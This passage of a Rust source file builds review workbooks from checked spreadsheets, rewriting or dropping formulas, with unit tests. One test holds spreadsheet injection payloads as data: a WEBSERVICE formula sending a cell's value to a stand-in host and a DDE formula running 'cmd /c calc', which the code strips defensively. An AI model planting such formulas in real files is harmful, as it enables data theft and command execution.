            ws.write_blank(row, col, format.unwrap_or(&Format::new()))?;
        }
        (None, v) => {
            // Text (even text that starts with `=`), dates as the reader showed them, errors.
            match format {
                Some(format) => ws.write_string_with_format(row, col, result_text(v), format)?,
                None => ws.write_string(row, col, result_text(v))?,
            };
        }
    }
    Ok(())
}

/// What writing one marked copy found.
struct CopyWritten {
    /// Every formula written is on the list of pure calculation functions.
    all_formulas_pure: bool,
}

/// The formula with its references to other sheets renamed to their copies; None when the
/// formula cannot be kept as it is (a sheet that was not copied, a defined name, an external
/// or structured reference, OpenDocument syntax): the cell then keeps its value only, so that
/// a spreadsheet program that recalculates shows the same figure.
fn rewrite_formula(f: &str, rename: &dyn Fn(&str) -> Option<String>) -> Option<String> {
    if formula_safety::is_opendocument(f) {
        return None;
    }
    let f = f.trim().trim_start_matches('=');
    if f.is_empty() {
        return None;
    }
    let toks = formula_tokens::tokens(f).ok()?;
    let mut out = String::with_capacity(f.len() + 8);
    for (k, t) in toks.iter().enumerate() {
        match t {
            Token::Sheet { name, .. } => {
                out.push_str(&quote_sheet_name(&rename(name)?));
                out.push('!');
            }
            // An external link or a structured reference; the spill operator (which an .xlsx
            // stores as a function); `;`, which separates arguments only in OpenDocument's and
            // other locales' syntax: not kept.
            Token::Bracket(_) | Token::Hash | Token::Punct('{' | '}' | '@' | ';') => return None,
            Token::Word(word) => {
                if toks.get(k + 1) != Some(&Token::Punct('(')) {
                    let next_colon = toks.get(k + 1) == Some(&Token::Punct(':'));
                    let prev_colon = toks[..k]
                        .iter()
                        .rev()
                        .find(|t| !matches!(t, Token::Space(_)))
                        == Some(&Token::Punct(':'));
                    let ok = is_cell_ref(word)
                        || word.eq_ignore_ascii_case("TRUE")
                        || word.eq_ignore_ascii_case("FALSE")
                        || ((next_colon || prev_colon) && is_col_ref(word));
                    if !ok {
                        return None;
                    }
                }
                out.push_str(word);
            }
            // Text, error values (copied whole), numbers, operators, spaces: as written.
            other => out.push_str(&formula_tokens::written(other)),
        }
    }
    Some(out)
}

fn is_col_ref(w: &str) -> bool {
    let w = w.strip_prefix('$').unwrap_or(w);
    !w.is_empty() && w.len() <= 3 && w.bytes().all(|b| b.is_ascii_alphabetic())
}

fn is_cell_ref(w: &str) -> bool {
    !w.contains('.') && CellRef::parse_a1(w).is_some() && !w.trim().is_empty() && {
        // `parse_a1` also accepts a `$` only before the column and the row; nothing else.
        let t = w.trim_start_matches('$');
        let letters = t.bytes().take_while(u8::is_ascii_alphabetic).count();
        letters <= 3
    }
}

// ---------------------------------------------------------------------------------------------
// Writing the file

/// Writes the review workbook to `target` atomically ([`crate::write::output::write_atomic`]: a
/// temporary file in the same folder, removed on every error and on SIGINT/SIGTERM, then put in
/// place only over what `target.replace` allows; the permissions of a replaced file kept),
/// refusing an output that is one of `inputs` (canonical paths compared) or a folder. The
/// [`crate::write::output::Written`] says what else was done (stale temporary files of killed runs
/// removed, a file replaced by `--force`): the caller prints its notices.
pub fn write_review(
    target: &crate::write::output::Target<'_>,
    inputs: &[PathBuf],
    results: &[FileResult],
    opts: &ReviewOptions,
) -> Result<crate::write::output::Written, ReviewError> {
    write_review_of(target, inputs, opts.lang, || review_workbook(results, opts))
}

/// [`write_review`] of the results a [`ReviewBuilder`] took.
pub fn write_built_review(
    target: &crate::write::output::Target<'_>,
    inputs: &[PathBuf],
    built: ReviewBuilder,
) -> Result<crate::write::output::Written, ReviewError> {
    let lang = built.opts.lang;
    write_review_of(target, inputs, lang, || built.workbook())
}

/// [`write_review`] of the bytes `workbook` makes, once the output is known to be writable.
fn write_review_of(
    target: &crate::write::output::Target<'_>,
    inputs: &[PathBuf],
    lang: Lang,
    workbook: impl FnOnce() -> Result<Vec<u8>, ReviewError>,
) -> Result<crate::write::output::Written, ReviewError> {
    let out = target.path;
    if out.is_dir() || out.file_name().is_none() {
        return Err(ReviewError::OutputIsFolder {
            path: out.to_path_buf(),
            lang,
        });
    }
    let out_is = OutFile::of(out);
    if inputs.iter().any(|i| out_is.same_file(i)) {
        return Err(ReviewError::OutputIsInput {
            path: out.to_path_buf(),
            lang,
        });
    }
    let bytes = workbook().map_err(|e| e.in_lang(lang))?;
    let write_err = |reason: String| ReviewError::Write {
        path: out.to_path_buf(),
        reason,
        lang,
    };
    let parent = match out.parent() {
        Some(p) if !p.as_os_str().is_empty() => p.to_path_buf(),
        _ => PathBuf::from("."),
    };
    if !parent.is_dir() {
        return Err(write_err(render(
            dw(lang).out_no_folder,
            &[("path", &parent.display().to_string())],
        )));
    }
    crate::write::output::write_atomic(target, &bytes).map_err(|e| write_err(e.to_string()))
}

/// The output as [`OutFile::same_file`] compares inputs with it, found out once for all
/// inputs: on Unix its device and inode when it exists; elsewhere its canonical path (through
/// symbolic links; its folder's with its name when it does not exist yet).
struct OutFile {
    #[cfg(not(unix))]
    canonical: Option<PathBuf>,
    #[cfg(unix)]
    id: Option<(u64, u64)>,
}

impl OutFile {
    fn of(out: &Path) -> OutFile {
        #[cfg(not(unix))]
        let canonical = std::fs::canonicalize(out).ok().or_else(|| {
            let parent = match out.parent() {
                Some(p) if !p.as_os_str().is_empty() => p,
                _ => Path::new("."),
            };
            Some(std::fs::canonicalize(parent).ok()?.join(out.file_name()?))
        });
        #[cfg(unix)]
        let id = {
            use std::os::unix::fs::MetadataExt;
            std::fs::metadata(out).ok().map(|m| (m.dev(), m.ino()))
        };
        OutFile {
            #[cfg(not(unix))]
            canonical,
            #[cfg(unix)]
            id,
        }
    }

    /// Whether the output names the same file as `input`, a regular file: equal canonical
    /// paths (through symbolic links), or, on Unix, the same device and inode (a hard link).
    /// On Unix that is one look at each input: an output that exists is compared by device
    /// and inode alone (a file at the same canonical path has them); one that does not exist
    /// is none of the inputs, which do (a file put at its path since is not replaced:
    /// [`crate::write::output::write_atomic`] checks the path again).
    fn same_file(&self, input: &Path) -> bool {
        #[cfg(unix)]
        {
            use std::os::unix::fs::MetadataExt;
            self.id.is_some_and(|id| {
                std::fs::metadata(input).is_ok_and(|m| m.is_file() && (m.dev(), m.ino()) == id)
            })
        }
        #[cfg(not(unix))]
        {
            let Ok(input_c) = std::fs::canonicalize(input) else {
                return false;
            };
            input_c.is_file() && self.canonical.as_deref() == Some(input_c.as_path())
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A copied cell of the default style is written without a format ([`Formats::styled`]):
    /// the bytes are those of the cells written with the default format, for every kind of
    /// value [`put_cell`] writes; any other style keeps its format.
    #[test]
    fn default_style_cells_are_written_as_with_the_default_format() {
        let mut formats = Formats::default();
        assert!(formats.styled(&CellStyle::default()).is_none());
        let bold = CellStyle {
            bold: true,
            ..CellStyle::default()
        };
        assert_eq!(formats.styled(&bold), Some(&build_format(&bold)));
        let values = [
            (None, Value::Number(2.5), None),
            (None, Value::Text("Tổng số".into()), None),
            (None, Value::Bool(true), None),
            (None, Value::Empty, None),
            (None, Value::Date("45000".into()), Some(45000.0)),
            (Some("SUM(A1:A2)".to_string()), Value::Number(3.0), None),
        ];
        let book = |format: Option<&Format>| {
            let mut wb = Workbook::new();
            let created = ExcelDateTime::from_ymd(2000, 1, 1).expect("date");
            wb.set_properties(&DocProperties::new().set_creation_datetime(&created));
            let ws = wb.add_worksheet();
            for (row, (formula, value, serial)) in values.iter().enumerate() {
                put_cell(ws, row as u32, 0, formula.clone(), value, *serial, format).expect("cell");
            }
            wb.save_to_buffer().expect("bytes")
        };
        let plain = Format::new();
        assert_eq!(book(None), book(Some(&plain)));
        assert_ne!(book(None), book(Some(&build_format(&bold))));
    }

    fn rename(name: &str) -> Option<String> {
        match name {
            "M01-SoLuong" | "m01-soluong" => Some("TD-07 M01".to_string()),
            "Sheet1" => Some("TD-07 M02".to_string()),
            _ => None,
        }
    }

    #[test]
    fn formulas_kept_renamed_or_dropped() {
        let r = |f: &str| rewrite_formula(f, &rename);
        assert_eq!(r("SUM(C8:C15)").as_deref(), Some("SUM(C8:C15)"));
        assert_eq!(r("=C10+C11").as_deref(), Some("C10+C11"));
        assert_eq!(r("$C$7*100/C8").as_deref(), Some("$C$7*100/C8"));
        assert_eq!(r("SUM(C:C)").as_deref(), Some("SUM(C:C)"));
        assert_eq!(
            r("IF(C7=0,\"-\",C8/C7*100)").as_deref(),
            Some("IF(C7=0,\"-\",C8/C7*100)")
        );
        assert_eq!(r("'M01-SoLuong'!C7").as_deref(), Some("'TD-07 M01'!C7"));
        assert_eq!(
            r("Sheet1!C7+1.5E+3").as_deref(),
            Some("'TD-07 M02'!C7+1.5E+3")
        );
        assert_eq!(
            r("IFERROR(C8/C7,#DIV/0!)").as_deref(),
            Some("IFERROR(C8/C7,#DIV/0!)")
        );
        assert_eq!(r("\"it's\"&B2").as_deref(), Some("\"it's\"&B2"));
        // Not copied, a defined name, external, structured, ODF.
        assert_eq!(r("Other!C7"), None);
        assert_eq!(r("'Other sheet'!C7"), None);
        assert_eq!(r("TongSo*2"), None);
        assert_eq!(r("[1]Sheet1!C7"), None);
        assert_eq!(r("Table1[Col]"), None);
        assert_eq!(r("of:=SUM([.C8:.C15])"), None);
        assert_eq!(r("of:=SUM(1;2)"), None);
        assert_eq!(r("oooc:=1+2"), None);
        assert_eq!(r("SUM(1;2)"), None);
        // Error values are copied whole, and hide nothing after them.
        assert_eq!(r("#REF!+#N/A").as_deref(), Some("#REF!+#N/A"));
        assert_eq!(r("#REF!TongSo"), None);
        assert_eq!(r("A1#"), None);
        assert_eq!(r("A1#WEBSERVICE(1)"), None);
        assert_eq!(r("\"unterminated"), None);
    }

    #[test]
    fn sheet_names_valid_and_unique() {
        let mut taken = BTreeSet::new();
        taken.insert("summary".to_string());
        assert_eq!(unique_sheet_name("Summary", &mut taken), "Summary (2)");
        assert_eq!(unique_sheet_name("TD/07: M01*", &mut taken), "TD_07_ M01_");
        assert_eq!(
            unique_sheet_name("td_07_ m01_", &mut taken),
            "td_07_ m01_ (2)"
        );
        let long = "Chi bộ Trường Trung học phổ thông Tam Đường M01";
        let a = unique_sheet_name(long, &mut taken);
        let b = unique_sheet_name(long, &mut taken);
        let utf16_len = crate::write::xlsx_limits::utf16_len;
        assert!(utf16_len(&a) <= 31 && utf16_len(&b) <= 31, "{a} / {b}");
        assert_ne!(a.to_lowercase(), b.to_lowercase());
        assert!(b.ends_with(" (2)"));
        assert_eq!(unique_sheet_name("'quoted'", &mut taken), "quoted");
        assert_eq!(unique_sheet_name("''", &mut taken), "Sheet");
    }

    /// One checked file whose kept sheet holds `cells`.
    fn one_sheet(cells: &[(&str, Value, Option<&str>)]) -> Vec<FileResult> {
        let mut sheet = Sheet::new("M01");
        for (at, v, f) in cells {
            let at = CellRef::parse_a1(at).expect("a1");
            sheet.cells.insert(
                at,
                crate::model::Cell {
                    value: v.clone(),
                    formula: f.map(str::to_string),
                    fmt: NumFmt::default(),
                },
            );
        }
        vec![FileResult {
            path: "a.xlsx".into(),
            status: Status::Checked,
            forms: vec![crate::result::FormFound {
                sheet: "M01".into(),
                form: "M01".into(),
                confidence: 1.0,
                continued_on: vec![],
            }],
            findings: vec![],
            unit: crate::result::Unit {
                name: Some("Chi bộ A".into()),
                code: Some("TD-01".into()),
                key: Some("TD-01".into()),
            },
            kept: vec![sheet],
            explanations: vec![],
            not_applied: vec![],
        }]
    }

    /// The output is an input when it is that file by any name: itself, another spelling, a
    /// symbolic link to it, a hard link; not another file, nor a path where nothing is.
    #[cfg(unix)]
    #[test]
    fn the_output_is_compared_with_the_inputs_as_files() {
        let dir = tempfile::tempdir().expect("temp dir");
        let input = dir.path().join("td07.xlsx");
        let other = dir.path().join("td08.xlsx");
        std::fs::write(&input, b"input").expect("write");
        std::fs::write(&other, b"other").expect("write");
        let link = dir.path().join("link.xlsx");
        std::os::unix::fs::symlink(&input, &link).expect("symlink");
        let hard = dir.path().join("hard.xlsx");
        std::fs::hard_link(&input, &hard).expect("hard link");
        let spelt = dir.path().join(".").join("td07.xlsx");
        for out in [&input, &spelt, &link, &hard] {
            assert!(OutFile::of(out).same_file(&input), "{out:?}");
            assert!(OutFile::of(&input).same_file(out), "{out:?}");
        }
        assert!(!OutFile::of(&other).same_file(&input));
        assert!(!OutFile::of(&dir.path().join("new.xlsx")).same_file(&input));
        assert!(!OutFile::of(&input).same_file(dir.path()));
        assert!(!OutFile::of(dir.path()).same_file(dir.path()));
    }

    /// A sheet's cells: (A1, value, formula).
    type Cells<'a> = &'a [(&'a str, f64, Option<&'a str>)];

    /// A file of `sheets` (name, cells), code `code`, with an error finding on each of
    /// `flagged`'s cells (sheet, A1).
    fn file_of(
        path: &str,
        code: &str,
        sheets: &[(&str, Cells<'_>)],
        flagged: &[(&str, &str)],
    ) -> FileResult {
        let mut r = one_sheet(&[]).remove(0);
        r.path = path.into();
        r.unit.code = Some(code.into());
        r.unit.key = Some(code.into());
        r.forms.clear();
        r.kept.clear();
        for (name, cells) in sheets {
            let mut sheet = Sheet::new(*name);
            for (at, v, f) in cells.iter() {
                sheet.cells.insert(
                    CellRef::parse_a1(at).expect("a1"),
                    crate::model::Cell {
                        value: Value::Number(*v),
                        formula: f.map(str::to_string),
                        fmt: NumFmt::default(),
                    },
                );
            }
            r.forms.push(crate::result::FormFound {
                sheet: name.to_string(),
                form: name.to_string(),
                confidence: 1.0,
                continued_on: vec![],
            });
            r.kept.push(sheet);
        }
        for (sheet, cell) in flagged {
            r.findings.push(Finding {
                file: path.into(),
                sheet: Some(sheet.to_string()),
                rule: "sum".into(),
                severity: Severity::Error,
                message: "tổng sai".into(),
                cells: vec![crate::finding::CellLoc::new(
                    None,
                    sheet.to_string(),
                    cell.to_string(),
                )],
                expected: Some(3.0),
                actual: Some(4.0),
                difference: Some(1.0),
                order: (0, 0, 0),
                decimals: None,
            });
        }
        r
    }

    /// The workbook built as results come in is the one built from all of them, byte for byte:
    /// with copies written ahead, a formula naming another sheet (whose copy's name changes
    /// when a later file gives the same code), and sheets without findings left out once the
    /// run has more than the maximum.
    #[test]
    fn built_as_results_come_in_is_the_same_workbook() {
        let sum: &[(&str, f64, Option<&str>)] = &[
            ("B2", 1.0, None),
            ("B3", 3.0, None),
            ("B4", 4.0, Some("B2+B3")),
        ];
        let other: &[(&str, f64, Option<&str>)] = &[
            ("B2", 4.0, Some("M01!B4")),
            ("B3", 2.0, Some("SUM(B2:B2)*2")),
        ];
        let results = vec![
            file_of(
                "a.xlsx",
                "TD-01",
                &[("M01", sum), ("M02", other), ("M03", sum)],
                &[("M01", "B4"), ("M02", "B2")],
            ),
            file_of("b.xlsx", "TD-02", &[("M01", sum), ("M02", sum)], &[]),
            file_of("c.xlsx", "TD-01", &[("M01", sum)], &[("M01", "B3")]),
            file_of("d.xlsx", "TD-04", &[("M01", sum), ("M02", other)], &[]),
        ];
        for max in [300, 2, 4] {
            let opts = ReviewOptions {
                lang: Lang::Vi,
                max_copied_sheets: max,
            };
            let mut built = ReviewBuilder::new(opts.clone(), results.len());
            for r in &results {
                built.add(r);
            }
            // a.xlsx's M01 and c.xlsx's M01 are written ahead; a.xlsx's M02 names M01.
            let ahead: Vec<(usize, usize)> = built.ahead.keys().copied().collect();
            assert_eq!(ahead, vec![(0, 0), (2, 0)], "max {max}");
            let bytes = built.workbook().expect("built");
            assert_eq!(
                bytes,
                review_workbook(&results, &opts).expect("whole"),
                "max {max}"
            );
            // The formula names the copy of M01 under the file's name (its code is shared).
            let (fs, _, workbook) = read_back(&bytes);
            assert!(fs.iter().any(|f| f == "'a M01'!B4"), "{fs:?}");
            assert_eq!(
                workbook.contains("d M02") || workbook.contains("TD-04 M02"),
                max == 300
            );
        }
    }

    /// (every `<f>` of the worksheets, the notes' text, workbook.xml) of a review workbook.
    fn read_back(bytes: &[u8]) -> (Vec<String>, String, String) {
        use std::io::Read as _;
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("zip");
        let (mut fs, mut notes, mut workbook) = (Vec::new(), String::new(), String::new());
        for i in 0..zip.len() {
            let mut f = zip.by_index(i).expect("entry");
            let name = f.name().unwrap_or_default().to_string();
            let mut text = String::new();
            let _ = f.read_to_string(&mut text);
            if name.starts_with("xl/worksheets/sheet") {
                let mut rest = text.as_str();
                while let Some(i) = rest.find("<f>") {
                    let end = rest[i..].find("</f>").map_or(rest.len(), |e| i + e);
                    fs.push(
                        rest[i + 3..end]
                            .replace("&quot;", "\"")
                            .replace("&amp;", "&"),
                    );
                    rest = &rest[end..];
                }
            } else if name.starts_with("xl/comments") {
                notes.push_str(&text.replace("&quot;", "\"").replace("&amp;", "&"));
            } else if name == "xl/workbook.xml" {
                workbook = text;
            }
        }
        (fs, notes, workbook)
    }

    #[test]
    fn dangerous_formulas_become_values_with_a_note() {
        let t = |s: &str| Value::Text(s.to_string());
        let results = one_sheet(&[
            ("A1", Value::Number(3.0), Some("SUM(B1:B2)")),
            ("A2", t("leak"), Some("_xlfn.WEBSERVICE(\"http://x/?\"&B1)")),
            ("A3", t("leak2"), Some("HYPERLINK(\"http://x\",\"go\")")),
            ("A4", Value::Number(1.0), Some("[1]Sheet1!A1")),
            ("A5", Value::Number(1.0), Some("cmd|' /c calc'!A0")),
            ("B1", Value::Number(1.0), None),
            ("B2", Value::Number(2.0), None),
        ]);
        let bytes = review_workbook(&results, &ReviewOptions::default()).expect("built");
        let (fs, notes, workbook) = read_back(&bytes);
        assert_eq!(fs, vec!["SUM(B1:B2)".to_string()]);
        for f in [
            "=_xlfn.WEBSERVICE(\"http://x/?\"&B1)",
            "=HYPERLINK(\"http://x\",\"go\")",
            "=[1]Sheet1!A1",
            "=cmd|' /c calc'!A0",
        ] {
            assert!(notes.contains(f), "{f}");
        }
        assert!(notes.contains("Formula not kept: it calls _xlfn.WEBSERVICE"));
        assert!(notes.contains("Formula not kept: it is a DDE link"));
        // Every kept formula is pure: the recalculation on load is allowed.
        assert!(workbook.contains("fullCalcOnLoad"));
    }

    #[test]
    fn long_cell_text_is_cut_with_a_note() {
        let results = one_sheet(&[("A1", Value::Text("é".repeat(40_000)), None)]);
        let bytes = review_workbook(&results, &ReviewOptions::default()).expect("built");
        let (_, notes, _) = read_back(&bytes);
        assert!(notes.contains("This text has 40,000 characters"), "{notes}");
    }

    #[test]
    fn cells_beyond_the_grid_are_left_out_and_said_so() {
        let mut results = one_sheet(&[("B2", Value::Number(1.0), None)]);
        for at in [CellRef::new(2_000_000, 0), CellRef::new(0, 20_000)] {
            results[0].kept[0]
                .cells
                .insert(at, crate::model::Cell::value(Value::Number(2.0)));
        }
        let bytes = review_workbook(&results, &ReviewOptions::default()).expect("built");
        let (_, notes, _) = read_back(&bytes);
        assert!(
            notes.contains("2 cell(s) of this sheet lie beyond"),
            "{notes}"
        );
    }

    #[test]
    fn lang_from_pack() {
        assert_eq!(Lang::from_pack("vi"), Lang::Vi);
        assert_eq!(Lang::from_pack("VI-vn"), Lang::Vi);
        assert_eq!(Lang::from_pack("en"), Lang::En);
        assert_eq!(Lang::from_pack("fr"), Lang::En);
    }
}
